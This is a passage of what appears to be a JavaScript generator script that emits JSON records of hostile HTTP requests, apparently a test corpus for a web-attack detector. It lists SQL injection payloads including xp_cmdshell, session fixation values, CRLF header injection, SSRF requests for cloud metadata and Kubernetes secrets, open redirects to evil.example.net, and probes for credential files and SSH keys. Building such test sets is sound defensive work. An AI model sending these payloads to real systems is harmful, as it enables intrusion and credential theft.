  q(c, '/products', [['id', ['3%0AUNION%0ASELECT%0A1,2,version()']]]);
  q(c, '/products', [['id', ['3%20%55NION%20%53ELECT%201,2,3']]]);
  q(c, '/catalog', [['id', '1/**/union/*'], ['id', '*/select/*'], ['id', '*/1,user(),3']]);
  form(c, '/catalog/list', [['sort', 'price'], ['dir', 'ASC,(SELECT 1 FROM(SELECT SLEEP(5))x)']]);
  json(c, '/api/orders', { order: [['created_at', 'DESC; SELECT pg_sleep(5)']] });
  json(c, '/api/orders/bulk', { ids: [7, 8, '9) AND 1=(SELECT COUNT(*) FROM pg_user WHERE usesuper'] });
  json(c, '/api/v2/query', { filter: { raw: '1=1) OR (SELECT 1 FROM mysql.user LIMIT 1)=(1' } });
  gql(c, 'query O($id: ID!) { order(id: $id) { total } }', { id: '1 UNION SELECT 1,2,3--' });
  xml(c, '/ws/stock', '<?xml version="1.0"?><stock><item>5 OR 3&gt;2</item><warehouse>1</warehouse></stock>');
  hdr(c, '/products', { Cookie: 'uid=7 and 1=convert(int,@@version); lang=en' });
  hdr(c, '/products', { 'X-Forwarded-For': '10.0.0.1 AND 9=BENCHMARK(9000000,SHA2(0x41,256))' });
  q(c, '/products', [['id', ['3%2520or%25201%253D1']]]);
  json(c, '/api/users/find', `{"name":"${uEsc('admin" or 1=1 -- ')}"}`);
  form(c, '/search', [['q', 'laptop'], ['limit', '10 INTO @a'], ['offset', '0 PROCEDURE ANALYSE()']]);
  q(c, '/products', [['id', '3 or extractvalue(rand(),concat(0x3a,(select @@hostname)))']]);
  q(c, '/api/mssql', [['id', '1;EXEC sp_configure \'show advanced options\',1;RECONFIGURE;EXEC xp_cmdshell \'whoami\'']]);
}

// ---------------------------------------------------------------- session fixation and cookie injection
{
  const c = 'session';
  q(c, '/app/index.cfm', [['CFID', '11223'], ['CFTOKEN', '87654321']]);
  q(c, '/login', [['JSESSIONID', '0000AttackerChosen1111']]);
  q(c, '/welcome', [['connect.sid', 's:fixed-by-attacker.x']]);
  q(c, '/', [['laravel_session', 'eyJpdiI6ImF0dGFja2VyIn0']]);
  form(c, '/login', [['email', 'vic@example.org'], ['password', 'hunter2'], ['session_id', 'attacker-known-id-01']]);
  hdr(c, '/account', { Cookie: 'sid=9f1c2a; Domain=.example.test; Path=/; Expires=Wed, 01 Jan 2031 00:00:00 GMT' });
  q(c, '/set-lang', [['lang', 'en; sessionid=attacker42; path=/']]);
  q(c, '/search', [['q', '<img src=x onerror="document.cookie=\'sessionid=fixed99;path=/;max-age=31536000\'">']]);
  json(c, '/api/sso/bind', { token: 'x', cookie: 'SESSION=attacker-session-id; Domain=example.test' });
  q(c, '/sso/callback', [['state', 'x'], ['sessionToken', 'FIXED0000000000000000000000000000']]);
}

// ---------------------------------------------------------------- CRLF / header injection
{
  const c = 'crlf';
  get(c, '/redirect/%0D%0ASet-Cookie:%20admin=true');
  q(c, '/r', [['u', ['%u000d%u000aSet-Cookie:%20s=1']]]);
  json(c, '/api/export', { filename: 'r.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>' });
  q(c, '/r', [['u', ['%250d%250aLocation:%20http://evil.example.net']]]);
  q(c, '/lang', [['l', ['en%0a%20Set-Cookie:%20x=1']]]);
  q(c, '/r', [['u', ['/%0d%0a%0d%0a%3Chtml%3E%3Cbody%3Eowned%3C/body%3E%3C/html%3E']]]);
  get(c, '/%23%0d%0aX-Injected:%20yes');
  q(c, '/r', [['u', ['/x%3f%0d%0aLocation:%20//evil.example.net']]]);
  q(c, '/dl', [['f', ['a%c4%8d%c4%8aSet-Cookie:%20pwn=1']]]);
  form(c, '/newsletter', [['email', 'me@example.org\r\nCc: all@evil.example.net']]);
  json(c, '/api/notify', { to: 'ops@example.org', subject: 'hi\nX-Mailer: x\nBcc: leak@evil.example.net' });
  hdr(c, '/track', { Referer: 'https://app.example.test/%0d%0aX-Forwarded-Host:%20evil.example.net' });
  q(c, '/proxy', [['path', ['/api%0D%0AHost:%20internal.admin%0D%0A%0D%0AGET%20/secret']]]);
  form(c, '/api/cache/purge', [['key', 'k1\r\nflushall\r\n']]);
}

// ---------------------------------------------------------------- SSRF: metadata endpoints in every notation, container-internal names
{
  const c = 'ssrf';
  json(c, '/api/webhooks', { target: { url: 'http://[::ffff:169.254.169.254]/latest/meta-data/' } });
  q(c, '/proxy/fetch', [['u', 'http://0xa9.254.0251.0xfe/latest/api/token']]);
  form(c, '/profile/avatar', [['avatar_url', 'http://169.254.43518/latest/meta-data/']]);
  json(c, '/api/import/url', { source: 'http://169.16689662/computeMetadata/v1/' });
  q(c, '/proxy/fetch', [['u', 'http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/user-data']]);
  xml(c, '/api/feeds', '<?xml version="1.0"?><feed><link href="http://instance-data.ec2.internal/latest/meta-data/iam/"/></feed>');
  json(c, '/api/webhooks', { url: 'http://metadata/computeMetadata/v1/instance/attributes/?recursive=true', headers: { 'Metadata-Flavor': 'Google' } });
  form(c, '/pdf/render', [['html', '<iframe src="http://169.254.169.254/metadata/instance?api-version=2021-02-01"></iframe>']]);
  q(c, '/proxy/fetch', [['u', 'http://192.0.0.192/latest/']]);
  json(c, '/api/link-preview', { url: 'http://169-254-169-254.sslip.io/metadata/v1.json' });
  json(c, '/api/webhooks', { url: 'http://host.docker.internal:2375/v1.41/containers/json' });
  q(c, '/proxy/fetch', [['u', 'https://kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets']]);
  form(c, '/integrations/test', [['endpoint', 'http://redis:6379/']]);
  gql(c, 'mutation W($u: String!) { createWebhook(url: $u) { id } }', { u: 'http://elasticsearch:9200/_cat/indices?v' });
  q(c, '/proxy/fetch', [['u', 'http://127.0.0.1:10255/pods']]);
  json(c, '/api/webhooks', { url: 'http://etcd.kube-system:2379/v2/keys/?recursive=true' });
  q(c, '/proxy/fetch', [['u', 'http://１６９.２５４.１６９.２５４/latest/meta-data/']]);
  form(c, '/api/fetch', [['url', 'netdoc:///etc/passwd']]);
  mp(c, '/upload/logo', [{ name: 'file', filename: 'logo.svg', type: 'image/svg+xml', content: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="100" height="100"/></svg>' }]);
  q(c, '/proxy/fetch', [['u', ['http%3A%2F%2F%5B%3A%3Affff%3A7f00%3A1%5D%3A8500%2Fv1%2Fagent%2Fself']]]);
  json(c, '/api/webhooks', { url: 'http://0x7f000001:9000/minio/admin/v3/info' });
  hdr(c, '/', { 'X-Forwarded-Host': '169.254.169.254', 'X-Original-URL': '/latest/meta-data/' });
  form(c, '/api/fetch', [['url', 'http://rancher-metadata/latest/self/container']]);
  json(c, '/api/fetch', { url: 'http://[::1]:8001/api/v1/namespaces/kube-system/secrets' });
}

// ---------------------------------------------------------------- open redirects as exploits write them
{
  const c = 'redirect';
  q(c, '/login', [['next', ['/%5Cevil.example.net']]]);
  q(c, '/login', [['url', 'https://evil.example.net%00.app.example.test']]);
  q(c, '/auth', [['returnUrl', ['%2F%2Fevil.example.net%2F%252E%252E']]]);
  q(c, '/login', [['redir', ['%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%65%78%61%6d%70%6c%65%2e%6e%65%74']]]);
  q(c, '/login', [['dest', '//evil.example.net\\@app.example.test']]);
  q(c, '/login', [['target', 'https://evil.example.net?app.example.test']]);
  q(c, '/login', [['url', 'https:／／evil.example.net']]);
  q(c, '/go', [['to', '////evil.example.net/']]);
  q(c, '/cas/login', [['service', 'https://evil.example.net/cas']]);
  form(c, '/saml/acs', [['SAMLResponse', 'PHNhbWxwOlJlc3BvbnNlLz4='], ['RelayState', 'https://evil.example.net/landing']]);
  q(c, '/login', [['continue', ['java%0dscript:alert(document.cookie)']]]);
  q(c, '/logout', [['return', 'javascript://app.example.test/%0aalert(1)']]);
  get(c, '/redirect/https:%2F%2Fevil.example.net');
  get(c, '//evil.example.net/%2e%2e');
  q(c, '/login', [['next', 'https://app.example.test%40evil.example.net/']]);
  json(c, '/api/auth/logout', { post_logout_redirect_uri: '//evil.example.net/%2F..' });
  q(c, '/oauth/authorize', [['client_id', 'web'], ['response_type', 'code'], ['redirect_uri', 'https://app.example.test/callback/../../..//evil.example.net']]);
  q(c, '/login', [['return_to', '/\t/evil.example.net/']]);
}

// ---------------------------------------------------------------- sensitive-file probes
{
  const c = 'files';
  for (const p of [
    '/.git/logs/HEAD', '/.env.local', '/.env.bak', '/site-backup.tar.gz', '/www.rar', '/database.sql', '/wp-config.php.save',
    '/.hg/hgrc', '/CVS/Entries', '/.svn/entries', '/.aws/config', '/.s3cfg', '/.git-credentials', '/.pgpass', '/.my.cnf',
    '/.netrc', '/.zsh_history', '/npm-debug.log', '/config/master.key', '/appsettings.Production.json', '/WEB-INF/classes/application.properties',
    '/server.key', '/.idea/dataSources.xml', '/elmah.axd', '/.GIT/config', '/.git%2fconfig', '/%2e%65nv', '/.env;.css',
    '/static/..%2f.env', '/_profiler/phpinfo', '/docker-compose.yml',
  ]) get(c, p);
  q(c, '/download', [['file', '.htpasswd.bak']]);
  q(c, '/export', [['path', '/home/app/.ssh/id_ed25519']]);
}

process.stdout.write(records.map((r) => JSON.stringify(r)).join('\n') + '\n');
